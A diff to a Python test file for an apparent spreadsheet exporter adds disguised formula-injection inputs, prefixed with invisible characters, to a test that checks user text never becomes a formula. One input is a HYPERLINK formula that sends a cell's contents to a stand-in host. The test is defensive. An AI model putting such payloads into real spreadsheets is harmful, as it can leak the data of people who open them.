@@ -34,7 +34,11 @@ def test_formulas_are_formulas_and_have_no_results_beside_them(made: bytes) -> N
     assert openpyxl.load_workbook(io.BytesIO(made), data_only=True).worksheets[1]["F9"].value is None
 
 
-@pytest.mark.parametrize("written", [text for text in EVIL if text.startswith(LIKE_FORMULA)])
+HIDDEN = ('\u00ad=HYPERLINK("https://x.test/?"&D7)', "\ufffe=1+1", "\u00ad\u00ad+1")
+"""What is taken out of a cell must not leave a formula behind."""
+
+
+@pytest.mark.parametrize("written", [*(text for text in EVIL if text.startswith(LIKE_FORMULA)), *HIDDEN])
 def test_what_people_wrote_is_never_a_formula(written: str) -> None:
     from dataclasses import replace  # noqa: PLC0415 - one test needs it
 
